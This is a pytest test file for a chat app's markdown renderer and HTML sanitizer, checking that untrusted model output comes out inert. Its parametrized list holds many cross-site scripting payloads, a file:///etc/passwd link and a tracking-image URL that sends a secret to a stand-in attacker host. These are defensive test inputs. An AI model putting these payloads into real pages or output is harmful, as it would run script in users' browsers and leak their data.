"""Model output is untrusted: hostile markdown and HTML come out inert; normal markdown renders."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from playground.chat.presenters.rendering import render_markdown, sanitize_html

SAFE_TAGS = {"a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "strong", "ul"}
SAFE_TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
SAFE_SCHEMES = ("https://", "http://", "mailto:")


class Elements(HTMLParser):
    """Every element and attribute as a browser would parse them (text stays text)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    for tag, attrs in Elements(html).found:
        assert tag in SAFE_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} on <{tag}> survived in {html!r}"
            assert name not in {"src", "style", "srcset", "formaction", "xlink:href"}, html
            if name == "href":
                assert (value or "").startswith(SAFE_SCHEMES), f"href={value!r} survived in {html!r}"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![](https://evil.example/img.png)",
        "![tracker](https://evil.example/p.gif?user=secret)",
        "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![](data:image/png;base64,iVBORw0KGgo=)",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=https://evil.example></iframe>",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript&#58;alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](  javascript:alert(1))",
        '<a href="javascript:alert(1)">x</a>',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<details open ontoggle=alert(1)>",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        '[x](https://ok.example "title" onmouseover="alert(1)")',
        "<style>body{display:none}</style>",
        "[ref]\n\n[ref]: javascript:alert(1)",
    ],
)
def test_hostile_model_output_is_neutralised(hostile: str) -> None:
    assert_inert(render_markdown(hostile))


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert render_markdown("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"


def test_html_entities_do_not_turn_back_into_markup() -> None:
    html = render_markdown("&lt;img src=x onerror=alert(1)&gt;")
    assert "&lt;img" in html
    assert "<img" not in html


def test_images_become_their_alt_text_and_are_never_fetched() -> None:
    html = render_markdown("See ![a cat](https://evil.example/cat.png)")
    assert html == "<p>See [image: a cat]</p>\n"


def test_https_links_render_with_a_safe_rel_and_a_new_tab() -> None:
    html = render_markdown("[docs](https://developers.cloudflare.com/workers-ai/)")
    assert 'href="https://developers.cloudflare.com/workers-ai/"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_relative_links_lose_their_target() -> None:
    html = render_markdown("[log out](/logout/)")
    assert "href" not in html
    assert "log out" in html


def test_code_blocks_lists_and_emphasis_still_render() -> None:
    html = render_markdown(
        "Some **bold** and *italic* and `inline`.\n\n"
        "```python\nprint('<b>hi</b>')\n```\n\n"
        "- one\n- two\n\n"
        "3. three\n4. four\n\n"
        "> quoted\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "~~gone~~"
    )
    assert "<strong>bold</strong>" in html
    assert "<em>italic</em>" in html
    assert "<code>inline</code>" in html
    assert "<pre><code class=\"language-python\">print('&lt;b&gt;hi&lt;/b&gt;')\n</code></pre>" in html
    assert "<ul>\n<li>one</li>" in html
    assert '<ol start="3">' in html
    assert "<blockquote>" in html
    assert "<table>" in html
    assert "<s>gone</s>" in html


def test_a_code_block_language_cannot_smuggle_attributes() -> None:
    html = render_markdown('```x" onmouseover="alert(1)\ncode\n```')
    assert_inert(html)
    assert Elements(html).found[1] == ("code", {})


def test_single_newlines_are_line_breaks() -> None:
    assert render_markdown("one\ntwo") == "<p>one<br>\ntwo</p>\n"


def test_empty_output_renders_nothing() -> None:
    assert render_markdown("") == ""


def test_the_sanitizer_alone_strips_what_markdown_might_let_through() -> None:
    dirty = (
        '<p onclick="x()">hi <a href="javascript:alert(1)">a</a> <a href="data:text/html,x">b</a>'
        '<img src="https://evil.example/x.png"><svg onload="alert(1)"><circle/></svg>'
        '<iframe src="https://evil.example"></iframe><code class="language-py evil">c</code></p>'
    )
    clean = sanitize_html(dirty)
    assert_inert(clean)
    assert "<p>hi" in clean
    assert "<code>c</code>" in clean
